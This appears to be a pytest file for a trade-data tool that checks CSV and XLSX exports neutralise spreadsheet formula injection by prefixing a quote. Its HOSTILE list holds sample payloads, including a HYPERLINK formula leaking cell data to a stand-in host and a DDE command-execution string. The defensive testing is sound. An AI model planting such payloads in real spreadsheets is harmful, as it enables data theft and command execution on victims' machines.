"""Names that a spreadsheet would run as formulas (=, +, -, @, TAB, CR first) reach XLSX and CSV
outputs with a leading quote; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import networkx as nx
import openpyxl  # type: ignore[import-untyped]
import pytest

from dualtrace.cli.common import OutputFormat, emit
from dualtrace.findings import Finding
from dualtrace.network.export import _csv_tables
from dualtrace.normalize.cells import neutralise
from dualtrace.report import xlsx
from dualtrace.report.data import ReportData

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tTAB Co",
]


def test_neutralise() -> None:
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralise(v) for v in (-5, 1.5, "-5", "+1.5e3", "OOO Alfa", "", None)] == [
        -5,
        1.5,
        "-5",
        "+1.5e3",
        "OOO Alfa",
        "",
        None,
    ]


def test_xlsx_cells_are_text_with_a_quote(tmp_path: Path) -> None:
    findings = [
        Finding("trade_gap", "party", name, headline=name, score=0.5, metrics={"party": name, "delta": -5})
        for name in HOSTILE
    ]
    path = tmp_path / "r.xlsx"
    xlsx.write(ReportData(findings=findings, sources=[], runs=[], warehouse="w.duckdb"), path)
    sheet = openpyxl.load_workbook(path)["summary"]
    header = [c.value for c in sheet[1]]
    subjects = [row[header.index("subject")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in subjects) == sorted("'" + v for v in HOSTILE)
    assert {c.data_type for c in subjects} == {"s"}  # text, not formulas ("f")
    detail = openpyxl.load_workbook(path)["trade_gap"]
    header = [c.value for c in detail[1]]
    rows = list(detail.iter_rows(min_row=2, values_only=True))
    assert {r[header.index("delta")] for r in rows} == {-5}
    assert sorted(r[header.index("party")] for r in rows) == sorted("'" + v for v in HOSTILE)


def test_cli_csv_output(capsys: pytest.CaptureFixture[str]) -> None:
    emit([{"name": name, "score": -5} for name in HOSTILE], OutputFormat.csv)
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE]
    assert {r["score"] for r in rows} == {"-5"}


def test_network_csv_export() -> None:
    g: nx.MultiDiGraph[str] = nx.MultiDiGraph()
    g.add_node("p1", name="@SUM(1)", country="RU", lines=-5)
    g.add_node("p2", name="Plain Trading LLC", country="CN", lines=3)
    g.add_edge("p1", "p2", key="own:1", kind="ownership", relation="=1+1", share=0.5)
    nodes, edges = _csv_tables(g)
    names = {r["party_id"]: r for r in csv.DictReader(io.StringIO(nodes))}
    assert names["p1"]["name"] == "'@SUM(1)" and names["p1"]["lines"] == "-5"
    assert names["p2"]["name"] == "Plain Trading LLC"
    [edge] = list(csv.DictReader(io.StringIO(edges)))
    assert edge["relation"] == "'=1+1"
